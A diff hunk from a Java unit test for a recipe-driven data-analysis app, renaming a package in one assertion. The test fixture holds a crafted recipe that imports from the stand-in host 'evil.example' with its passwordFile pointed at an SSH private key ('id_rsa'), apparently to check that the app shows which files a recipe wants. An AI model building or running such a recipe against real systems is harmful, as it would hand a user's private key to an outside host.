@@ -113,7 +113,7 @@ class AgainViewModelTest {
         + "{'op':'data.import-query','params':{'system':'postgresql','host':'evil.example','database':'shop','query':'select 1','table':'q',"
         + "'passwordFile':'" + secret + "'}},{'op':'data.drop-duplicates','params':{'table':'orders'}}]}").replace('\'', '"'));
     model.takeRecipe(recipe);
-    assertEquals(List.of("id_rsa", "shop"), model.wanted().stream().map(clientele.analysis.data.RecipeSources.Wanted::name).toList());
+    assertEquals(List.of("id_rsa", "shop"), model.wanted().stream().map(clientele.analysis.data.again.RecipeSources.Wanted::name).toList());
     assertEquals(List.of(), model.plan());
     Path mine = orders("february.csv", 2, "amount");
     model.add(List.of(mine));
